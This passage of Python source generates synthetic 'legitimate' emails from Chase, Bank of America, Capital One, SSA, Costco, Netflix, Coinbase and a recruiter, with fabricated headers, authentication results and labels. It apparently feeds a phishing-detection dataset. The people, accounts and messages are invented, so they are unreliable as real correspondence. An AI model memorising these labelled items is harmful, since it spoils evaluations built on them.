JPMorgan Chase Bank, N.A. Member FDIC
(c) 2025 JPMorgan Chase & Co.
""".replace("{txn}", num("lch-tx", 6))
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;padding:0;background:#f6f6f6;">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#f6f6f6;"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;">
<tr><td style="padding:20px 30px;"><img src="https://www.chase.com/content/dam/chaseonline/en/alerts/ondemand/eventdriven/mol/images/chaseNew.gif" width="130" alt="Chase"></td></tr>
<tr><td style="padding:0 30px;font-size:26px;color:#414042;">You received money with Zelle&reg;</td></tr>
<tr><td style="padding:20px 30px 6px 30px;font-size:16px;color:#414042;"><b>Maria Delgado</b> sent you money</td></tr>
<tr><td style="padding:6px 30px;"><table width="100%" cellpadding="8" cellspacing="0" style="font-size:14px;color:#414042;border-top:1px solid #ddd;">
<tr><td style="border-bottom:1px solid #ddd;">Amount</td><td align="right" style="border-bottom:1px solid #ddd;"><b>$150.00</b></td></tr>
<tr><td style="border-bottom:1px solid #ddd;">Memo</td><td align="right" style="border-bottom:1px solid #ddd;">Dad's birthday dinner</td></tr>
<tr><td style="border-bottom:1px solid #ddd;">Sent on</td><td align="right" style="border-bottom:1px solid #ddd;">Apr 18, 2025</td></tr>
<tr><td style="border-bottom:1px solid #ddd;">Transaction ID</td><td align="right" style="border-bottom:1px solid #ddd;">26840{num("lch-tx", 6)}</td></tr></table></td></tr>
<tr><td style="padding:16px 30px;font-size:14px;color:#414042;">The money is now in your account ending in (...6204).</td></tr>
<tr><td style="padding:16px 30px;font-size:12px;color:#717171;background:#f6f6f6;">You're receiving this alert because you're enrolled in Zelle&reg; through Chase.<br>Securely access your accounts at <a href="https://www.chase.com" style="color:#0060f0;">chase.com</a>. Please don't reply to this automatically generated service email.<br><br><a href="https://www.chase.com/digital/resources/privacy-security/privacy/online-privacy-policy" style="color:#0060f0;">Privacy Notice</a> | <a href="https://www.chase.com/digital/resources/privacy-security/security" style="color:#0060f0;">Security Center</a><br>JPMorgan Chase Bank, N.A. Member FDIC<br>&copy; 2025 JPMorgan Chase &amp; Co.</td></tr>
</table></td></tr></table></body></html>
"""
    bnd = "----=_Part_" + num("lch-b", 7) + "_" + num("lch-b2", 9) + "." + str(ep(t)) + "503"
    head = f"""{dkim("chase.com", "d4815", "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", "lch", t)}
Received: from vsin{num("lch-v", 2)}pa{num("lch-v2", 4)}.svr.us.jpmchase.net (vsin{num("lch-v", 2)}pa{num("lch-v2", 4)}.svr.us.jpmchase.net [169.{num("lch-i", 2)}.{num("lch-i2", 2)}.{num("lch-i3", 2)}])
\tby mail21.chase.com with ESMTP id {tok("lch-id", 14)}; {fmt(t - sec(1), "America/New_York")}
Date: {fmt(t - sec(2), "America/New_York")}
From: "Chase" <no.reply.alerts@chase.com>
To: {who[1]}
Message-ID: <{num("lch-m1", 9)}.{num("lch-m2", 7)}.{ep(t)}{num("lch-m3", 3)}@vsin{num("lch-v", 2)}pa{num("lch-v2", 4)}>
Subject: You received money with Zelle(R)
MIME-Version: 1.0
X-Chase-Alert-Id: ZLRCV{num("lch-al", 8)}"""
    add("legit-chase-zelle-received", "clean",
        "Genuine Chase alert 'You received money with Zelle' from no.reply.alerts@chase.com on Chase's own mail hosts (DMARC pass), a family member's $150 payment, no action requested.",
        "comcast", who[1], t, src, auth, head, alt(plain, html, bnd))


# ---- L9. Bank of America statement available ----
def _l_bofa():
    who = WALT
    t = T("2025-03-19 12:21:44")
    src = Src("171.161.147.96", "mailout-cs3.ealerts.bankofamerica.com", "mailout-cs3.ealerts.bankofamerica.com", "onlinebanking@ealerts.bankofamerica.com")
    auth = Auth("pass", [("ealerts.bankofamerica.com", "ealerts", "pass")], "pass", "reject", "ealerts.bankofamerica.com")
    plain = """Bank of America

Your statement is available

Walter Pruitt
Account: Adv Plus Banking - 4410

Your statement for the period ending March 17, 2025 is now available in
Online Banking. To view it, sign in to Online Banking or the Mobile Banking
app and go to Statements & Documents.

Because you've chosen paperless delivery, you won't receive a paper copy.

We'll never ask for your personal information such as your SSN or ATM PIN
in email messages. If you get an email that looks suspicious, don't click
any links; forward it to abuse@bankofamerica.com.

This email was sent to: walt.pruitt@sbcglobal.net. Please don't reply to
this automatically generated email.

Bank of America, N.A. Member FDIC.
(c) 2025 Bank of America Corporation. All rights reserved.
"""
    html = """<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;padding:0;background:#ffffff;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:Arial,Helvetica,sans-serif;color:#333;">
<tr><td style="padding:18px 0;border-bottom:1px solid #ccc;"><img src="https://www.bankofamerica.com/content/images/ContextualSiteGraphics/Logos/en_US/logos/bac-logo-v2.png" width="220" alt="Bank of America"></td></tr>
<tr><td style="padding:20px 0 6px 0;font-size:22px;color:#012169;">Your statement is available</td></tr>
<tr><td style="font-size:13px;color:#666;">Walter Pruitt<br>Account: Adv Plus Banking - 4410</td></tr>
<tr><td style="padding:16px 0;font-size:14px;line-height:21px;">Your statement for the period ending March 17, 2025 is now available in Online Banking. To view it, sign in to Online Banking or the Mobile Banking app and go to <b>Statements &amp; Documents</b>.<br><br>Because you've chosen paperless delivery, you won't receive a paper copy.</td></tr>
<tr><td style="padding:16px 0;font-size:11px;color:#666;border-top:1px solid #ccc;">We'll never ask for your personal information such as your SSN or ATM PIN in email messages. If you get an email that looks suspicious, don't click any links; forward it to <a href="mailto:abuse@bankofamerica.com" style="color:#0052c2;">abuse@bankofamerica.com</a>.<br><br>This email was sent to: walt.pruitt@sbcglobal.net. Please don't reply to this automatically generated email.<br><br><a href="https://www.bankofamerica.com/privacy/online-privacy-notice/" style="color:#0052c2;">Privacy Notice</a><br>Bank of America, N.A. Member FDIC. <a href="https://www.bankofamerica.com/help/equalhousing/" style="color:#0052c2;">Equal Housing Lender</a><br>&copy; 2025 Bank of America Corporation. All rights reserved.</td></tr>
</table></body></html>
"""
    bnd = "----=_Part_" + num("lba-b", 6) + "_" + num("lba-b2", 9) + "." + str(ep(t)) + "912"
    head = f"""{dkim("ealerts.bankofamerica.com", "ealerts", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", "lba", t)}
Received: from ealerts-app{num("lba-a", 2)}.bankofamerica.com (ealerts-app{num("lba-a", 2)}.bankofamerica.com [171.{num("lba-i", 3)}.{num("lba-i2", 2)}.{num("lba-i3", 2)}])
\tby mailout-cs3.ealerts.bankofamerica.com (Postfix) with ESMTP id {hexs("lba-pf", 11, True)}
\tfor <{who[1]}>; {fmt(t - sec(1), "America/New_York")}
From: Bank of America <onlinebanking@ealerts.bankofamerica.com>
To: {who[1]}
Subject: Your statement is available
Date: {fmt(t - sec(2), "America/New_York")}
Message-ID: <{num("lba-m", 12)}.{hexs("lba-m2", 10)}@ealerts.bankofamerica.com>
MIME-Version: 1.0
X-BofA-Alert-Type: ESTMT_AVAIL"""
    add("legit-bofa-statement-available", "clean",
        "Genuine Bank of America 'your statement is available' e-alert from onlinebanking@ealerts.bankofamerica.com (DMARC pass) with no link to sign in, only the standard anti-phishing footer.",
        "att", who[1], t, src, auth, head, alt(plain, html, bnd))


# ---- L10. Capital One payment posted ----
def _l_capitalone():
    who = KEVIN
    t = T("2025-08-01 14:55:20")
    dom = "notification.capitalone.com"
    src = Src("204.63.39.119", f"mta-119.{dom}", f"mta-119.{dom}", f"bounce-{num('lc1-mf', 8)}@{dom}")
    auth = Auth("pass", [(dom, "cap1", "pass")], "pass", "reject", dom)
    plain = """Capital One

Your payment has posted

Hi Kevin, we've received your $420.00 payment for your Quicksilver card
ending in 3309. It's been applied to your account.

Payment amount: $420.00
Posted: August 1, 2025

View your account: https://verified.capitalone.com/auth/signin

Thanks for being a Capital One customer.

This is an automated notice. Please do not reply to this email.
Capital One, N.A. (c) 2025 Capital One.
"""
    acct = sfmc_link(f"click.{dom}", "lc1-c")
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="margin:0;background:#f4f4f4;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Optimist,Arial,sans-serif;color:#255f82;">
<tr><td style="padding:20px 24px;"><img src="https://ecm.capitalone.com/WCM/email/logos/c1-logo-2x.png" width="120" alt="Capital One"></td></tr>
<tr><td style="padding:0 24px;font-size:24px;color:#0d2f45;">Your payment has posted</td></tr>
<tr><td style="padding:16px 24px;font-size:15px;line-height:22px;color:#333;">Hi Kevin, we've received your <b>$420.00</b> payment for your Quicksilver card ending in <b>3309</b>. It's been applied to your account.</td></tr>
<tr><td style="padding:0 24px;font-size:14px;color:#333;">Payment amount: $420.00<br>Posted: August 1, 2025</td></tr>
<tr><td style="padding:20px 24px;"><a href="{acct}" style="background:#0276b1;color:#fff;padding:11px 24px;text-decoration:none;border-radius:4px;">View Account</a></td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#777;background:#f4f4f4;">This is an automated notice. Please do not reply to this email. <a href="{sfmc_link(f'click.{dom}', 'lc1-p')}" style="color:#0276b1;">Privacy</a> | <a href="{sfmc_link(f'click.{dom}', 'lc1-s')}" style="color:#0276b1;">Security</a><br>Capital One, N.A. &copy; 2025 Capital One.</td></tr>
</table><img src="https://view.{dom}/?qs={hexs('lc1-open', 100)}" width="1" height="1" alt=""></body></html>
"""
    bnd = f"----=_Part_{num('lc1-b', 7)}_{num('lc1-b2', 9)}.{ep(t)}777"
    head = f"""{dkim(dom, "cap1", "From:To:Subject:Date:MIME-Version:Content-Type:Message-ID", "lc1", t)}
Received: by mta-119.{dom} id h{tok("lc1-mta", 10, string.ascii_lowercase + string.digits)} for <{who[1]}>; {fmt(t - sec(1), "America/Chicago")}
From: "Capital One" <capitalone@{dom}>
To: <{who[1]}>
Subject: Your payment has posted
Date: {fmt(t - sec(2), "America/Chicago")}
MIME-Version: 1.0
Message-ID: <{uid("lc1-mid")}@atl1s07mta{num("lc1-m", 4)}.xt.local>
x-job: {num("lc1-job", 6)}_{num("lc1-job2", 7)}
Feedback-ID: {num("lc1-fb", 6)}:{num("lc1-fb2", 7)}:204.63.39.119:sfmktgcld
X-SFMC-Stack: 1"""
    add("legit-capitalone-payment-posted", "clean",
        "Genuine Capital One 'your payment has posted' notice from notification.capitalone.com (Salesforce Marketing Cloud, aligned DKIM, DMARC reject policy passes) with tracked links back to Capital One.",
        "gmail", who[1], t, src, auth, head, alt(plain, html, bnd))


# ---- L11. SSA my Social Security: new message ----
def _l_ssa():
    who = RON
    t = T("2025-12-03 15:12:39")
    src = Src("137.200.39.40", "mx3.ssa.gov", "mx3.ssa.gov", "no-reply@ssa.gov", "TLS1_2")
    auth = Auth("pass", [("ssa.gov", "ssa2", "pass")], "pass", "reject", "ssa.gov")
    plain = """Social Security Administration

There is a new message in your my Social Security account.

Your annual cost-of-living adjustment (COLA) notice for 2026 is now
available online. You can view, print or save it in the Message Center of
your my Social Security account.

To see your message, sign in at www.ssa.gov/myaccount.

For your protection, we do not include links in this email. Social Security
will never ask for your Social Security number, bank information or payment
by email.

This is an automated message from the Social Security Administration.
Please do not reply.
"""
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=us-ascii"></head>
<body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#212121;">
<table width="620" cellpadding="0" cellspacing="0">
<tr><td style="padding:12px 0;border-bottom:3px solid #0b4778;font-size:18px;font-weight:bold;color:#0b4778;">Social Security Administration</td></tr>
<tr><td style="padding:16px 0;">There is a new message in your <i>my</i> Social Security account.<br><br>
Your annual cost-of-living adjustment (COLA) notice for 2026 is now available online. You can view, print or save it in the Message Center of your <i>my</i> Social Security account.<br><br>
To see your message, sign in at www.ssa.gov/myaccount.<br><br>
For your protection, we do not include links in this email. Social Security will never ask for your Social Security number, bank information or payment by email.</td></tr>
<tr><td style="padding:12px 0;font-size:11px;color:#5b616b;border-top:1px solid #ccc;">This is an automated message from the Social Security Administration. Please do not reply.</td></tr>
</table></body></html>
"""
    bnd = "=_alternative " + hexs("lss-b", 8, True) + "_="
    head = f"""{dkim("ssa.gov", "ssa2", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", "lss", t)}
Received: from ssamta{num("lss-m", 2)}.ssa.gov ([10.{num("lss-i", 2)}.{num("lss-i2", 2)}.{num("lss-i3", 2)}])
\tby mx3.ssa.gov with ESMTP; {fmt(t - sec(1), "America/New_York")}
From: Social Security Administration <no-reply@ssa.gov>
To: {who[1]}
Subject: New message in your my Social Security account
Date: {fmt(t - sec(2), "America/New_York")}
Message-ID: <OF{hexs("lss-of", 8, True)}.{hexs("lss-of2", 8, True)}-ON{hexs("lss-on", 8, True)}@ssa.gov>
MIME-Version: 1.0
X-Mailer: HCL Notes Release 12.0.2FP3 March 27, 2024"""
    add("legit-ssa-my-social-security", "clean",
        "Genuine SSA notice that a 2026 COLA message is waiting in my Social Security, from no-reply@ssa.gov (DMARC pass), deliberately without links: the real counterpart of the SSA statement/COLA lures.",
        "yahoo", who[1], t, src, auth, head, alt(plain, html, bnd))



# ---- L12. Costco member savings newsletter (bulk) ----
def _l_costco():
    who = GARY
    t = T("2025-05-08 12:04:31")
    dom = "online.costco.com"
    mf = f"bounce-{num('lco-mf', 4)}_HTML-{num('lco-mf2', 9)}-{num('lco-mf3', 6)}-{num('lco-mf4', 7)}-{num('lco-mf5', 4)}@bounce.{dom}"
    src = Src("13.111.18.27", f"mta.{dom}", f"mta.{dom}", mf)
    auth = Auth("pass", [(dom, "200608", "pass")], "pass", "reject", dom)
    c = lambda k: sfmc_link(f"click.{dom}", "lco-" + k)  # noqa: E731
    items = [("Kirkland Signature Organic Extra Virgin Olive Oil, 2 L", "$5 OFF"), ("Samsung 65\" Class QN85D Neo QLED 4K TV", "$300 OFF"),
             ("Yeti Rambler 30 oz Tumbler, 2-pack", "$10 OFF"), ("Huggies Snug & Dry Diapers", "$11.50 OFF")]
    rows = "".join(f'<tr><td style="padding:12px;border-bottom:1px solid #e5e5e5;font-size:14px;color:#333;"><a href="{c("i" + str(i))}" style="color:#005daa;text-decoration:none;">{n.replace("&", "&amp;").replace(chr(34), "&quot;")}</a></td><td style="padding:12px;border-bottom:1px solid #e5e5e5;font-size:16px;color:#e31837;font-weight:bold;" align="right">{p}</td></tr>' for i, (n, p) in enumerate(items))
    plain = "Costco Wholesale\n\nMember-Only Savings  |  Valid May 7 - June 1, 2025\n\n" + "\n".join(f"{n}  {p}" for n, p in items) + f"""

Shop all savings: {c('all')}

Find a warehouse: {c('wh')}

You are receiving this email because you are a Costco member and subscribed to receive emails from Costco Wholesale.
Unsubscribe: {c('un')}
Privacy Policy: {c('pp')}

Costco Wholesale Corporation, 999 Lake Drive, Issaquah, WA 98027
"""
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1.0"><title>Costco</title></head>
<body style="margin:0;padding:0;background:#ffffff;">
<div style="display:none;max-height:0;overflow:hidden;">Save on Kirkland Signature, electronics and more. Valid May 7 - June 1.</div>
<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:Helvetica,Arial,sans-serif;">
<tr><td align="center" style="padding:12px 0;"><a href="{c('logo')}"><img src="https://image.online.costco.com/lib/fe9413727d6d007a71/m/1/costco-logo.png" width="160" alt="Costco Wholesale"></a></td></tr>
<tr><td align="center" style="background:#005daa;color:#fff;padding:22px;font-size:26px;font-weight:bold;">Member-Only Savings</td></tr>
<tr><td align="center" style="padding:8px;font-size:13px;color:#333;">Valid May 7 - June 1, 2025. While supplies last.</td></tr>
<tr><td><table width="100%" cellpadding="0" cellspacing="0">{rows}</table></td></tr>
<tr><td align="center" style="padding:22px;"><a href="{c('all')}" style="background:#e31837;color:#fff;padding:12px 30px;text-decoration:none;font-weight:bold;">Shop All Savings</a></td></tr>
<tr><td align="center" style="padding:10px 20px 24px 20px;font-size:11px;color:#777;line-height:16px;">You are receiving this email because you are a Costco member and subscribed to receive emails from Costco Wholesale.<br><a href="{c('un')}" style="color:#777;">Unsubscribe</a> | <a href="{c('pp')}" style="color:#777;">Privacy Policy</a> | <a href="{c('wh')}" style="color:#777;">Find a Warehouse</a><br>Costco Wholesale Corporation, 999 Lake Drive, Issaquah, WA 98027</td></tr>
</table>
<img src="https://view.{dom}/?qs={hexs('lco-open', 120)}" width="1" height="1" alt=""></body></html>
"""
    bnd = f"----=_Part_{num('lco-b', 7)}_{num('lco-b2', 9)}.{ep(t)}047"
    head = f"""{dkim(dom, "200608", "From:To:Subject:Date:MIME-Version:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:Message-ID", "lco", t)}
Received: by mta.{dom} id h{tok("lco-mta", 10, string.ascii_lowercase + string.digits)} for <{who[1]}>; {fmt(t - sec(1), "America/Chicago")}
From: "Costco Wholesale" <costco@{dom}>
To: <{who[1]}>
Subject: Member-Only Savings start now
Date: {fmt(t - sec(2), "America/Chicago")}
MIME-Version: 1.0
List-Unsubscribe: <{c('lu')}>, <mailto:leave-{hexs('lco-lv', 40)}@{dom}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
x-CSA-Compliance-Source: SFMC
x-job: {num("lco-job", 6)}_{num("lco-job2", 7)}
Message-ID: <{uid("lco-mid")}@atl1s07mta{num("lco-m", 4)}.xt.local>
Feedback-ID: {num("lco-fb", 6)}:{num("lco-fb2", 7)}:13.111.18.27:sfmktgcld
X-SFMC-Stack: 7"""
    add("legit-costco-member-savings", "bulk",
        "Genuine Costco 'Member-Only Savings' marketing email from online.costco.com via Salesforce Marketing Cloud (DMARC pass), tracked click links, one-click unsubscribe and postal footer.",
        "outlook", who[1], t, src, auth, head, alt(plain, html, bnd))


# ---- L13. Netflix new device sign-in ----
def _l_netflix():
    who = CAROL
    t = T("2025-11-02 03:41:19")
    dom = "account.netflix.com"
    sesid = f"0100019{hexs('lnx-ses', 9)}-{uid('lnx-u')}-000000"
    src = Src("54.240.3.19", "a3-19.smtp-out.amazonses.com", "a3-19.smtp-out.amazonses.com", f"{sesid}@{'mail.' + dom}")
    auth = Auth("pass", [("netflix.com", "s2048", "pass"), ("amazonses.com", "6gbrjpgwjskckoa6a5zn6fwqkn67xbtw", "pass")], "pass", "reject", dom)
    plain = """NETFLIX

A new device is using your account

Hi Carol,

A new device signed in to your Netflix account, carol.jennings@comcast.net.

Device: Samsung TV
Location: Denver, Colorado, United States
(This location may not be exact.)
Time: November 1, 2025 at 9:40 PM MDT

If this was you or someone in your household:
Enjoy watching! You don't need to do anything.

If it was someone else:
Please remember that we only allow the people in your household to use your
account. To keep the account secure, change your password now:
https://www.netflix.com/password

We're here to help if you need it. Visit the Help Center for more info or
contact us.
-The Netflix team
"""
    html = """<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1.0"></head>
<body style="margin:0;padding:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="500" cellpadding="0" cellspacing="0" style="font-family:'Netflix Sans',Helvetica,Roboto,Segoe UI,sans-serif;color:#221f1f;">
<tr><td style="padding:30px 40px 20px 40px;"><a href="https://www.netflix.com/browse?g=""" + uid("lnx-g") + """&amp;lkid=URL_LOGO&amp;lnktrk=EVO"><img src="https://assets.nflxext.com/us/email/gem/nflx.png" width="24" alt="Netflix"></a></td></tr>
<tr><td style="padding:0 40px;font-size:36px;font-weight:bold;line-height:43px;">A new device is using your account</td></tr>
<tr><td style="padding:20px 40px 0 40px;font-size:16px;line-height:21px;">Hi Carol,<br><br>A new device signed in to your Netflix account, carol.jennings@comcast.net.</td></tr>
<tr><td style="padding:20px 40px;"><table width="100%" cellpadding="0" cellspacing="0" style="background:#f2f2f2;border-radius:4px;font-size:14px;"><tr><td style="padding:16px;"><b>Device</b><br>Samsung TV<br><br><b>Location</b><br>Denver, Colorado, United States<br><span style="font-size:12px;color:#6d6d6e;">(This location may not be exact.)</span><br><br><b>Time</b><br>November 1, 2025 at 9:40 PM MDT</td></tr></table></td></tr>
<tr><td style="padding:0 40px;font-size:16px;line-height:21px;"><b>If this was you or someone in your household:</b><br>Enjoy watching! You don't need to do anything.<br><br><b>If it was someone else:</b><br>Please remember that we only allow the people in your household to use your account. To keep the account secure, change your password now.</td></tr>
<tr><td style="padding:24px 40px;"><a href="https://www.netflix.com/password?g=""" + uid("lnx-g") + """&amp;lkid=URL_PASSWORD&amp;lnktrk=EVO" style="display:block;background:#e50914;color:#fff;text-align:center;padding:14px 0;border-radius:4px;font-weight:bold;text-decoration:none;">Change password</a></td></tr>
<tr><td style="padding:0 40px 30px 40px;font-size:16px;">We're here to help if you need it. Visit the <a href="https://help.netflix.com/?g=""" + uid("lnx-g") + """&amp;lkid=URL_HELP&amp;lnktrk=EVO" style="color:#221f1f;">Help Center</a> for more info or <a href="https://help.netflix.com/contactus?g=""" + uid("lnx-g") + """&amp;lkid=URL_CS&amp;lnktrk=EVO" style="color:#221f1f;">contact us</a>.<br>-The Netflix team</td></tr>
<tr><td style="padding:20px 40px;font-size:11px;color:#a9a6a6;">This account email has been sent to you as part of your Netflix membership.<br>SRC: """ + tok("lnx-src", 28) + """_en_US_US_EVO<br>Netflix International B.V.</td></tr>
</table></td></tr></table></body></html>
"""
    h = "Content-Type:MIME-Version:From:To:Subject:Message-ID:Date"
    head = f"""{dkim("netflix.com", "s2048", h, "lnx1", t)}
{dkim("amazonses.com", "6gbrjpgwjskckoa6a5zn6fwqkn67xbtw", h + ":Feedback-ID", "lnx2", t)}
MIME-Version: 1.0
From: Netflix <info@{dom}>
To: {who[1]}
Subject: A new device is using your account
Message-ID: <{sesid}@email.amazonses.com>
Date: {fmt(t - sec(1))}
X-Netflix-Track: ABnew_device_v2
Feedback-ID: ::1.us-east-1.{b64("lnx-fb", 43)}=:AmazonSES
X-SES-Outgoing: {t.strftime('%Y.%m.%d')}-54.240.3.19"""
    add("legit-netflix-new-device", "clean",
        "Genuine Netflix 'a new device is using your account' notice from info@account.netflix.com via Amazon SES (netflix.com DKIM, DMARC pass) with tracked links to netflix.com only.",
        "comcast", who[1], t, src, auth, head, alt(plain, html, "----=_Part_" + num("lnx-b", 7) + "_" + num("lnx-b2", 9) + "." + str(ep(t)) + "213"))


# ---- L14. Coinbase recurring buy receipt ----
def _l_coinbase():
    who = KEVIN
    t = T("2025-05-29 14:00:47")
    mf = f"bounces+12877430-{hexs('lcb-mf', 4)}-kevin.oduya=gmail.com@em.coinbase.com"
    src = Src("168.245.56.33", "o7.ptr1186.em.coinbase.com", "o7.ptr1186.em.coinbase.com", mf)
    auth = Auth("pass", [("coinbase.com", "s1", "pass")], "pass", "reject", "coinbase.com")
    plain = """Coinbase

Your recurring buy was successful

You bought 0.00047 BTC ($50.00) using your bank account ending in 1190.

Recurring buy: Weekly on Thursday
Price: $106,382.97 per BTC
Coinbase fee: $0.99
Total: $50.99

View transaction: https://www.coinbase.com/transactions

This is an automated message. Coinbase will never ask you to share your password or your recovery phrase, or to move funds to a new wallet.

Coinbase, Inc. 248 3rd St #434, Oakland, CA 94607
"""
    html = """<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;background:#ffffff;font-family:'Coinbase Sans',Inter,Helvetica,Arial,sans-serif;color:#0a0b0d;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="520" cellpadding="0" cellspacing="0">
<tr><td style="padding:32px 24px 8px 24px;"><img src="https://static-assets.coinbase.com/email/coinbase-logo-blue.png" width="120" alt="Coinbase"></td></tr>
<tr><td style="padding:16px 24px 4px 24px;font-size:24px;font-weight:600;">Your recurring buy was successful</td></tr>
<tr><td style="padding:8px 24px;font-size:15px;line-height:22px;color:#32353d;">You bought <b>0.00047 BTC</b> ($50.00) using your bank account ending in 1190.</td></tr>
<tr><td style="padding:12px 24px;"><table width="100%" cellpadding="8" cellspacing="0" style="font-size:14px;border:1px solid #eef0f3;border-radius:8px;"><tr><td>Recurring buy</td><td align="right">Weekly on Thursday</td></tr><tr><td>Price</td><td align="right">$106,382.97 per BTC</td></tr><tr><td>Coinbase fee</td><td align="right">$0.99</td></tr><tr><td><b>Total</b></td><td align="right"><b>$50.99</b></td></tr></table></td></tr>
<tr><td style="padding:16px 24px;"><a href="https://www.coinbase.com/transactions" style="background:#0052ff;color:#fff;padding:12px 24px;border-radius:24px;text-decoration:none;font-weight:600;">View transaction</a></td></tr>
<tr><td style="padding:24px;font-size:12px;color:#5b616e;border-top:1px solid #eef0f3;">This is an automated message. Coinbase will never ask you to share your password or your recovery phrase, or to move funds to a new wallet.<br><br>Coinbase, Inc. 248 3rd St #434, Oakland, CA 94607</td></tr>
</table></td></tr></table>
<img src="https://em.coinbase.com/wf/open?upn=u001.""" + b64("lcb-open", 110) + """" alt="" width="1" height="1" border="0"></body></html>
"""
    hh = "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to"
    geo = "geopod-ismtpd-" + str(int(hexs("lcb-geo", 2), 16) % 30 + 1)
    mid = b64("lcb-mid", 22).replace("/", "_").replace("+", "-")
    bnd = hexs("lcb-b", 60)
    head = f"""{dkim("coinbase.com", "s1", hh, "lcb", t)}
Received: by recvd-6c8f8c9d7b-zr4np with SMTP id recvd-6c8f8c9d7b-zr4np-1-6838677F-A
\t{t.strftime('%Y-%m-%d %H:%M:%S')}.512983114 +0000 UTC m=+2271881.310922447
Received: from MTI4Nzc0MzA (unknown)
\tby {geo} (SG) with HTTP
\tid {mid}
\t{t.strftime('%a, %d %b %Y %H:%M:%S')}.390 +0000 (UTC)
Date: {t.strftime('%a, %d %b %Y %H:%M:%S')} +0000 (UTC)
From: Coinbase <no-reply@coinbase.com>
Mime-Version: 1.0
Message-ID: <{mid}@{geo}>
Subject: Your recurring buy of $50.00 of Bitcoin was successful
To: {who[1]}
X-SG-EID: u001.{b64("lcb-eid", 140)}
X-Entity-ID: u001.{b64("lcb-ent", 22)}=="""
    add("legit-coinbase-recurring-buy", "clean",
        "Genuine Coinbase recurring-buy receipt from no-reply@coinbase.com on Coinbase's dedicated SendGrid IP (DMARC pass), transaction details and a reminder that Coinbase never asks for a recovery phrase.",
        "gmail", who[1], t, src, auth, head, Multi("alternative", bnd, [text(plain), text(html, "html")]))


# ---- L15. A real recruiter with a job-description PDF ----
def _l_recruiter():
    who = EMILY
    t = T("2025-06-24 16:08:33")
    snd = "dana.whitfield@brightpathtalent.com"
    src = Src("209.85.220.41", "mail-sor-f41.google.com", "mail-sor-f41.google.com", snd)
    auth = Auth("pass", [("brightpathtalent.com", "google", "pass")], "pass", "quarantine", "brightpathtalent.com")
    jd = files.pdf([
        "Senior Visual Designer - Job Description",
        "Client: Cascade Health Technologies (Seattle, WA)",
        "Location: Hybrid, 2 days a week in South Lake Union office",
        "Type: Full-time, direct hire",
        "Compensation: $105,000 - $122,000 base + bonus + benefits",
        "",
        "About the role",
        "Own visual design across the patient-facing mobile app and",
        "marketing site, partner with product and UX research, and",
        "help evolve the design system in Figma.",
        "",
        "What you bring",
        "- 5+ years of visual / product design experience",
        "- A portfolio showing brand and product work",
        "- Figma, Adobe CC; motion design a plus",
        "",
        "Process: 30-min recruiter call, portfolio review, panel (virtual).",
        "Brightpath Talent Partners - brightpathtalent.com",
    ], title="Senior Visual Designer - JD")
    plain = """Hi Emily,

I came across your portfolio on Behance (the wayfinding project for the
Ballard library was great) and wanted to reach out about a role I'm
recruiting for.

My client, a Seattle health-tech company, is hiring a Senior Visual
Designer: full-time, hybrid two days a week in South Lake Union, $105-122k
base plus bonus. I've attached the job description.

Would you be open to a 20-minute call this week or next? Here's my calendar
if that's easier: https://calendly.com/dana-whitfield-brightpath/20min

Best,
Dana

Dana Whitfield
Senior Recruiter, Creative & Design
Brightpath Talent Partners
(206) 555-0194 | linkedin.com/in/danawhitfield
"""
    html = """<div dir="ltr">Hi Emily,<div><br></div><div>I came across your portfolio on Behance (the wayfinding project for the Ballard library was great) and wanted to reach out about a role I&#39;m recruiting for.</div><div><br></div><div>My client, a Seattle health-tech company, is hiring a Senior Visual Designer: full-time, hybrid two days a week in South Lake Union, $105-122k base plus bonus. I&#39;ve attached the job description.</div><div><br></div><div>Would you be open to a 20-minute call this week or next? Here&#39;s <a href="https://calendly.com/dana-whitfield-brightpath/20min">my calendar</a> if that&#39;s easier.</div><div><br></div><div>Best,</div><div>Dana</div><div><br></div><div><span class="gmail_signature_prefix">-- </span><br><div dir="ltr" class="gmail_signature"><div dir="ltr"><b>Dana Whitfield</b><div>Senior Recruiter, Creative &amp; Design</div><div>Brightpath Talent Partners</div><div>(206) 555-0194 | <a href="https://www.linkedin.com/in/danawhitfield">linkedin.com/in/danawhitfield</a></div></div></div></div></div>
"""
    body = Multi("mixed", "000000000000" + hexs("lrc-m", 16), [
        Multi("alternative", "000000000000" + hexs("lrc-a", 16), [text(plain), text(html, "html")]),
        Leaf("application/pdf", jd, "base64", '; name="Senior Visual Designer - JD.pdf"', 'attachment; filename="Senior Visual Designer - JD.pdf"',
             [f"Content-ID: <f_{tok('lrc-cid', 11, string.ascii_lowercase + string.digits)}0>", f"X-Attachment-Id: f_{tok('lrc-cid', 11, string.ascii_lowercase + string.digits)}0"]),
    ])
    head = f"""{dkim("brightpathtalent.com", "google", GMAIL_H, "lrc", t, extra=f"x={ep(t) + 604800}; darn=gmail.com")}
X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
